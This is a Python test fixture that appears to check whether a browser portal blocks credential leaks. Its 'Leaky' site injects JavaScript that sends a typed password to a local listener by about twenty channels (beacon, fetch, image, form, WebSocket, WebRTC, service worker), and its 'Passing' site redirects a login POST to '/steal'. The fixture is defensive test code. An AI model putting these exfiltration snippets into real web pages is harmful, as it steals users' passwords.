"""A portal that tries every way out of a browser, and servers that see whatever comes out."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field

from starlette.requests import Request
from starlette.responses import HTMLResponse, RedirectResponse, Response
from starlette.routing import Route

from tests.portals.sites import PASSWORD, Site


@dataclass
class Outside:
    """A port of this machine: every connection to it, and every datagram, is a leak."""

    port: int
    heard: list[bytes] = field(default_factory=list)
    datagrams: list[bytes] = field(default_factory=list)

    @property
    def origin(self) -> str:
        """Where it is."""
        return f"http://127.0.0.1:{self.port}"


@contextmanager
def outside() -> Iterator[Outside]:
    """A server that writes down the first bytes of each connection, before any protocol."""
    with (
        socket.create_server(("127.0.0.1", 0)) as door,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams,
    ):
        found = Outside(door.getsockname()[1])
        datagrams.bind(("127.0.0.1", found.port))
        threading.Thread(target=_hear, args=(door, found), daemon=True).start()
        threading.Thread(target=_catch, args=(datagrams, found), daemon=True).start()
        yield found


def _hear(door: socket.socket, found: Outside) -> None:
    while True:
        try:
            line, _ = door.accept()
        except OSError:
            return
        with line:
            line.settimeout(0.5)
            try:
                found.heard.append(line.recv(4096))
                line.sendall(b"HTTP/1.1 204 No Content\r\nconnection: close\r\n\r\n")
            except OSError:
                found.heard.append(b"")


def _catch(datagrams: socket.socket, found: Outside) -> None:
    while True:
        try:
            found.datagrams.append(datagrams.recv(4096))
        except OSError:
            return


WAYS = """
const out = '%(out)s', secret = () => document.querySelector('[type=password]')?.value || 'x';
const ways = {
  beacon: () => navigator.sendBeacon(out + '/beacon', secret()),
  keepalive: () => fetch(out + '/keepalive', {method: 'POST', body: secret(), keepalive: true}),
  cors: () => fetch(out + '/fetch?' + encodeURIComponent(secret()), {mode: 'no-cors'}),
  xhr: () => { const x = new XMLHttpRequest(); x.open('POST', out + '/xhr'); x.send(secret()); },
  socket: () => new WebSocket(out.replace('http', 'ws') + '/socket'),
  events: () => new EventSource(out + '/events'),
  image: () => { new Image().src = out + '/image?' + encodeURIComponent(secret()); },
  frame: () => { const f = document.createElement('iframe'); f.src = out + '/frame';
    document.body.append(f); },
  script: () => { const s = document.createElement('script'); s.src = out + '/script';
    document.head.append(s); },
  style: () => { const s = document.createElement('link'); s.rel = 'stylesheet';
    s.href = out + '/style'; document.head.append(s); },
  prefetch: () => { for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload']) {
    const s = document.createElement('link'); s.rel = rel; s.href = out + '/' + rel;
    document.head.append(s); } },
  form: () => { const f = document.createElement('form'); f.method = 'post'; f.target = 'sink';
    f.action = out + '/form'; const i = document.createElement('input'); i.name = 'p';
    i.value = secret(); f.append(i); const s = document.createElement('iframe'); s.name = 'sink';
    document.body.append(s, f); f.submit(); },
  download: () => { const a = document.createElement('a'); a.href = out + '/download';
    a.download = 'x.pdf'; a.target = '_blank'; document.body.append(a); a.click(); },
  window: () => window.open(out + '/window'),
  ping: () => { const a = document.createElement('a'); a.href = '#'; a.ping = out + '/ping';
    document.body.append(a); a.click(); },
  worker: () => new Worker(URL.createObjectURL(new Blob(
    ["fetch('" + out + "/worker', {mode: 'no-cors'})"]))),
  service: () => navigator.serviceWorker.register('/sw.js'),
  rtc: () => { const p = new RTCPeerConnection(
    {iceServers: [{urls: 'stun:' + out.split('//')[1]}]});
    p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o)); },
};
function leak() { for (const way of Object.values(ways)) { try { way(); } catch (e) {} } }
"""


@dataclass
class Leaky(Site):
    """Its pages send what is typed wherever they can, while it is typed and afterwards."""

    out: str = ""
    late: bool = False

    def routes(self) -> list[Route]:
        return [*super().routes(), Route("/sw.js", self.service)]

    async def service(self, _request: Request) -> Response:
        """A service worker that calls home."""
        self.log["service"] += 1
        return Response(
            f"self.addEventListener('install', () => fetch('{self.out}/service'))",
            media_type="text/javascript",
        )

    def login_form(self, error: str = "") -> str:
        script = WAYS % {"out": self.out}
        turn = "this.form.action = out + '/late'" if self.late else "leak()"
        form = super().login_form(error).replace("type=password", f'type=password oninput="{turn}"')
        return f"<script>{script}</script>{form}"

    def frame(self, body: str) -> HTMLResponse:
        return super().frame(f"{body}<script>{WAYS % {'out': self.out}} leak();</script>")


@dataclass
class Passing(Site):
    """It answers the password with a redirect that would send it on (307)."""

    out: str = ""

    async def login(self, request: Request) -> Response:
        if request.method == "GET":
            return await super().login(request)
        self.log["posts"] += 1
        assert PASSWORD
        return RedirectResponse(f"{self.out}/steal", 307)
